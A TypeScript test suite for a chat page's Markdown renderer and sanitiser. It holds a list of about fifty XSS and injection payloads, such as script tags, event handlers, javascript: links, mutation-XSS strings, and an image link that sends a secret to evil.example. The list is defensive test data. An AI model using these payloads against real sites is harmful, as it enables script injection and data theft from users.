import { describe, expect, test } from "vitest";

import { MarkdownView } from "../src/markdown.ts";
import { sanitize } from "../src/sanitize.ts";

/** What has run scripts, or called home, in chat pages and sanitisers; as HTML or as Markdown. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.png>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.example/x.swf>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript&colon;alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.example' onclick=alert(1)>x</a>",
  "<form action=https://evil.example><input name=q><button>go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video src=https://evil.example/v.mp4 autoplay onloadstart=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<div style='background:url(https://evil.example/x)'>x</div>",
  "<p id=composer name=send class=send data-copy=code>clobber</p>",
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<table background=https://evil.example/x.png><tr><td>x</td></tr></table>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](/streams/1/stop) and [y](//evil.example/) and [z](#composer)",
  "![exfiltrate](https://evil.example/?secret=1)",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://evil.example/x.png "t" )',
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x] and [words][x]",
  "```<img/src=x/onerror=alert(1)>\ncode\n```",
  '```js" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <b onmouseover=alert(1)>b</b> |",
  "# <script>alert(1)</script>\n> <iframe src=//evil.example></iframe>",
  "<br onclick=alert(1)><sub style=position:fixed>x</sub><kbd/onclick=alert(1)>",
];

const TAGS = new Set(
  "P BR HR H2 H3 H4 H5 H6 BLOCKQUOTE PRE UL OL LI STRONG EM DEL CODE SUB SUP KBD A TABLE THEAD TBODY TR TH TD".split(
    " ",
  ),
);
/** What the page itself puts around code and tables. */
const OWN_TAGS = new Set(["DIV", "FIGURE", "FIGCAPTION", "SPAN", "BUTTON"]);
const ATTRIBUTES = new Set(["title", "start", "align", "target", "rel"]);
const OWN_ATTRIBUTES = new Set(["type", "tabindex", "role", "aria-label", "data-copy"]);

/** What in `root` should not be there. */
function wrong(root: ParentNode, own: boolean): string[] {
  const found: string[] = [];
  for (const node of root.querySelectorAll("*")) {
    if (!TAGS.has(node.nodeName) && !(own && OWN_TAGS.has(node.nodeName))) found.push(`<${node.nodeName}>`);
    for (const { name, value } of node.attributes) {
      if (!fine(node, name, value, own)) found.push(`${name}=${value}`);
    }
  }
  return found;
}

function fine(node: Element, name: string, value: string, own: boolean): boolean {
  if (name === "class") {
    return own ? /^(block( joined)?|code|table-scroll|)$/.test(value) : /^language-[\w+#.-]+$/.test(value);
  }
  if (name === "href") {
    const guarded = node.getAttribute("rel") === "noopener noreferrer nofollow";
    return /^(https?:\/\/|mailto:)/i.test(value) && guarded && node.getAttribute("target") === "_blank";
  }
  return ATTRIBUTES.has(name) || (own && OWN_ATTRIBUTES.has(name));
}

test("there are enough payloads", () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(40);
});

describe.each(PAYLOADS)("%s", (payload) => {
  test("streamed, cut at every character, never becomes more than text and harmless marks", () => {
    const root = document.createElement("div");
    const view = new MarkdownView(root);
    for (let at = 1; at <= payload.length; at += 1) {
      view.update(payload.slice(0, at), false);
      expect(wrong(root, true)).toEqual([]);
    }
    view.update(payload, true);
    expect(wrong(root, true)).toEqual([]);
  });

  test("in the middle of an answer neither", () => {
    const source = `before **it\n\n- ${payload}\n\nafter`;
    const root = document.createElement("div");
    const view = new MarkdownView(root);
    for (let at = 13; at < source.length; at += 31) {
      view.update(source.slice(0, at), false);
      expect(wrong(root, true)).toEqual([]);
    }
    view.update(source, true);
    expect(wrong(root, true)).toEqual([]);
  });

  test("does not pass the sanitiser alone either", () => {
    expect(wrong(sanitize(payload), false)).toEqual([]);
  });
});

test("what is refused as HTML is not swallowed: the reader sees what the model wrote", () => {
  const root = document.createElement("div");
  new MarkdownView(root).update("Use `<b>` or <marquee>this</marquee>.\n\n<section>\nx\n</section>", true);
  expect(root.textContent).toContain("<marquee>this</marquee>");
  expect(root.textContent).toContain("<section>");
});

test("a good link works, and an image becomes one", () => {
  const root = document.createElement("div");
  new MarkdownView(root).update(
    "[a](https://example.org/?q=1&r=2) ![cat](https://example.org/cat.png)",
    true,
  );
  const links = [...root.querySelectorAll("a")].map((a) => [a.getAttribute("href"), a.textContent]);
  expect(links).toEqual([
    ["https://example.org/?q=1&r=2", "a"],
    ["https://example.org/cat.png", "cat"],
  ]);
});
